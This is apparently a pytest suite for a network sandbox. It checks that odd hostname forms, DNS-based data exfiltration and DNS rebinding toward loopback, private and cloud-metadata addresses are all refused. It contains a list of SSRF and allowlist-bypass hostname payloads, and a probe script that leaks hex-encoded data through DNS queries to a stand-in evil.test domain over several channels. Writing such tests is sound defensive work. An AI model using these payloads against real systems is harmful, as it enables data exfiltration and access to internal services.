"""Names as a way out, of a jar whose network is open: odd forms of them, the questions they are, what they resolve to.

The controls: a careless proxy and a careless name server, which the same probe gets past; and the same world without a
jar, where names are asked for and private addresses are reached.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest
from attack_control import python_control
from attack_egress import JAR_ROUTES, CarelessProxy, probe, said_by
from network_servers import Server, echo
from network_world import ADDRESSES, METADATA, PRIVATE, PUBLIC, Answer, ask

from belljar import Sandbox

OpenJar = Callable[..., Sandbox]

ODD_NAMES = {
    "NUL": b"127.0.0.1\0.allowed.test",
    "NUL behind a name": b"victim.test\0.allowed.test",
    "NUL, percent-encoded": b"127.0.0.1%00.allowed.test",
    "CR and LF": b"127.0.0.1\r\n.allowed.test",
    "LF": b"127.0.0.1\n.allowed.test",
    "CR, percent-encoded": b"127.0.0.1%0d%0a.allowed.test",
    "a fragment": b"127.0.0.1#.allowed.test",
    "a path": b"127.0.0.1/.allowed.test",
    "a space": b"127.0.0.1 .allowed.test",
    "a user": b"front.allowed.test@127.0.0.1",
    "one number": b"2130706433",
    "a hexadecimal number": b"0x7f000001",
    "hexadecimal parts": b"0x7f.0.0.0x1",
    "octal": b"0177.0.0.01",
    "too few parts": b"127.1",
    "padded": b"127.000.000.001",
    "this host": b"0.0.0.0",
    "trailing dot": b"127.0.0.1.",
    "mapped into IPv6": b"::ffff:127.0.0.1",
    "mapped into IPv6, in hexadecimal": b"::ffff:7f00:1",
    "in brackets": b"[::ffff:127.0.0.1]",
    "digits of another alphabet": "①②⑦.0.0.1".encode(),
    "full stops of another alphabet": "127。0。0。1".encode(),
    "localhost": b"localhost",
    "LOCALHOST.": b"LOCALHOST.",
}
ODD = """
names = json.loads(sys.argv[5])
port = int(sys.argv[6])
def reach(name):
    end = dial(bytes.fromhex(name), port)
    end.sendall(b"secret")
    end.settimeout(5)
    if end.recv(6) != b"secret":
        raise OSError("nobody")
    return "reached"
for row, name in names.items():
    attempt(row, lambda: reach(name))
"""


@pytest.fixture
def victim() -> Iterator[Server]:
    """A service on the host's loopback that no policy names."""
    with Server(echo) as server:
        yield server


@pytest.fixture
def front() -> Iterator[Server]:
    """The one that the policy allows."""
    with Server(echo) as server:
        yield server


@pytest.mark.parametrize("route", ["http", "socks"])
def test_odd_name_gets_nowhere(open_jar: OpenJar, victim: Server, front: Server, route: str) -> None:
    """CONNECT and SOCKS5: what is no plain name is refused; whatever it would have meant to somebody."""
    names = json.dumps({row: name.hex() for row, name in ODD_NAMES.items()})
    rule = {"host": "*.allowed.test", "ports": [victim.port], "addresses": [front.address]}
    arguments = ["{}", names, str(victim.port)]
    result = open_jar({"net": {"enabled": True, "allowlist": [rule]}}).run(
        probe(ODD), args=[*JAR_ROUTES[route], *arguments]
    )
    told = said_by(result)
    assert not [row for row, said in told.items() if said == "reached"], told
    assert not victim.heard
    assert not front.heard
    assert {"name-form", "address-form"} <= {denial.code for denial in result.denials}
    careless = CarelessProxy({"victim.test": victim.port})
    try:
        told = said_by(python_control(probe(ODD), *careless.route(route), *arguments, network=True))
    finally:
        careless.close()
    assert not {row: said for row, said in told.items() if said != "reached"}
    assert len(victim.heard) == 2 * len(ODD_NAMES)


@pytest.mark.parametrize("route", ["transparent", "http", "socks"])
def test_same_name_otherwise_written_is_the_same_host(open_jar: OpenJar, front: Server, route: str) -> None:
    """Case and one trailing dot are no other host: it is judged, and reached, as what it is."""
    body = """
for name in ("FRONT.Allowed.TEST", "front.allowed.test."):
    end = dial(name, 7)
    end.sendall(b"word")
    attempt(name, lambda: end.recv(4))
"""
    jar = open_jar(
        {
            "net": {
                "enabled": True,
                "allowlist": [{"host": "front.allowed.test", "ports": [7], "addresses": [front.address]}],
            }
        }
    )
    told = said_by(jar.run(probe(body), args=[*JAR_ROUTES[route], "{}"]))
    assert set(told.values()) == {"b'word'"}
    assert front.heard.count("connection") == 2


# --- DNS as a channel ------------------------------------------------------------------------------------------------

QUESTIONS = """
import socket, struct, urllib.request
DATA = "736563726574"  # what is to leave: "secret"

def wire(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\\0"
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)

def look_up(name):
    return socket.getaddrinfo(name, 80)

def datagram(server, name, kind=1):
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end.settimeout(1)
    end.sendto(wire(name, kind), (server, 53))
    return end.recv(512)

def stream(server, name):
    end = socket.create_connection((server, 53), timeout=1)
    end.sendall(struct.pack(">H", len(wire(name))) + wire(name))
    return end.recv(512)

def connect(name):
    end = socket.create_connection(("198.18.0.1", 3128), timeout=2)
    end.sendall(f"CONNECT {name}:80 HTTP/1.1\\r\\nHost: {name}:80\\r\\n\\r\\n".encode())
    return end.recv(512)

def absolute(name):
    end = socket.create_connection(("198.18.0.1", 3128), timeout=2)
    end.sendall(f"GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode())
    return end.recv(512)

def socks(name):
    end = socket.create_connection(("198.18.0.1", 1080), timeout=2)
    end.sendall(b"\\5\\1\\0")
    end.recv(2)
    end.sendall(b"\\5\\1\\0\\3" + bytes([len(name)]) + name.encode() + struct.pack(">H", 80))
    return end.recv(10)

def inside(name):
    end = socket.create_connection(("public.test", 80), timeout=2)
    end.sendall(f"GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n".encode())
    return end.recv(512)

WAYS = (look_up, lambda name: datagram("198.18.0.1", name), lambda name: datagram("127.0.0.1", name),
        lambda name: datagram("192.0.2.53", name), lambda name: datagram("198.18.0.1", name, 16),
        lambda name: datagram("127.0.0.1", name, 10), lambda name: stream("198.18.0.1", name),
        lambda name: stream("127.0.0.1", name), connect, absolute, socks, inside,
        lambda name: look_up("public.test." + name), lambda name: datagram("127.18.0.1", name),
        lambda name: datagram("127.18.0.1", name, 16), lambda name: stream("127.18.0.1", name))
for at, way in enumerate(WAYS):
    try:
        way(f"{DATA}{at}.secret.evil.test")
    except OSError:
        pass
end = socket.create_connection(("public.test", 80), timeout=5)
end.sendall(b"GET / HTTP/1.1\\r\\nHost: public.test\\r\\nConnection: close\\r\\n\\r\\n")
while data := end.recv(1000):
    print(data.decode())
"""


def test_name_carries_nothing_out(backend: str) -> None:
    """CVE-2025-55284: the name server of the host is asked for the listed name alone, in whatever way others are tried.

    Without a jar the same program asks it for names of all kinds.
    """
    policy = {"net": {"enabled": True, "allowlist": ["public.test"]}}
    answer = ask(QUESTIONS, policy, backend=backend)
    assert "reached" in answer.stdout, answer
    assert answer.asked == ("public.test",)
    assert set(answer.heard) == {PUBLIC}
    assert "name-not-listed" in answer.codes
    open_to_all = ask(QUESTIONS)
    data = {name.partition(".")[0] for name in open_to_all.asked if "secret.evil.test" in name}
    assert {"7365637265740", "7365637265742", "7365637265745"} <= data


# --- rebinding -------------------------------------------------------------------------------------------------------

RESOLVED = """
def get(host):
    end = dial(f"[{host}]" if ":" in host and route == "http" else host, 80)
    end.settimeout(5)
    end.sendall(f"GET / HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    return "reached" if end.recv(4096).startswith(b"HTTP/1.1 200") else "refused"
for host in sys.argv[5:]:
    attempt(host, lambda: get(host))
"""
DIALLED = (METADATA, PRIVATE, "127.0.0.1", "198.19.255.1", f"::ffff:{METADATA}")
"""Addresses, where no name stands for one."""
ROUTES = pytest.mark.parametrize("route", list(JAR_ROUTES))


def reached(answer: Answer) -> set[str]:
    return {host for host, said in said_by(answer.stdout).items() if said == "reached"}


@ROUTES
def test_name_that_resolves_to_what_it_should_not(backend: str, route: str) -> None:
    """Loopback, a cloud's metadata, a company's network, also mapped into IPv6: refused although the name is listed.

    The same names are reached without a jar; and in a jar whose policy pins one to its address, that one is.
    """
    code, names = probe(RESOLVED), sorted(ADDRESSES)
    arguments = [*JAR_ROUTES[route], "{}", *names]
    answer = ask(code, {"net": {"enabled": True, "allowlist": names}}, backend=backend, args=arguments)
    assert reached(answer) == {"public.test", "both.test"}, answer
    assert set(answer.heard) == {PUBLIC}, "of several addresses the public one is dialled"
    assert {"private-address", "builtin-cloud-metadata"} == set(answer.codes)
    free = ask(code, args=[*JAR_ROUTES["transparent"], "{}", *names])
    assert reached(free) == set(names)
    assert {"127.0.0.1", METADATA, "::1"} <= set(free.heard)
    pinned = [{"host": "loopback.test", "addresses": ["127.0.0.1"]}, "metadata.test"]
    answer = ask(code, {"net": {"enabled": True, "allowlist": pinned}}, backend=backend, args=arguments)
    assert answer.heard == ("127.0.0.1",)


@ROUTES
def test_rule_for_every_host_is_for_the_internet_alone(backend: str, route: str) -> None:
    """`host: '*'` reaches what is public: no private name of this host, no address of its networks, no metadata.

    All of them are there, and reached without a jar.
    """
    code, arguments = probe(RESOLVED), ["{}", *sorted(ADDRESSES), *DIALLED]
    policy = {"net": {"enabled": True, "allowlist": ["*"]}}
    answer = ask(code, policy, backend=backend, args=[*JAR_ROUTES[route], *arguments])
    assert reached(answer) == {"public.test", "both.test"}, answer
    assert set(answer.heard) == {PUBLIC}
    free = ask(code, args=[*JAR_ROUTES["transparent"], *arguments])
    assert {METADATA, PRIVATE, "127.0.0.1"} <= set(free.heard)
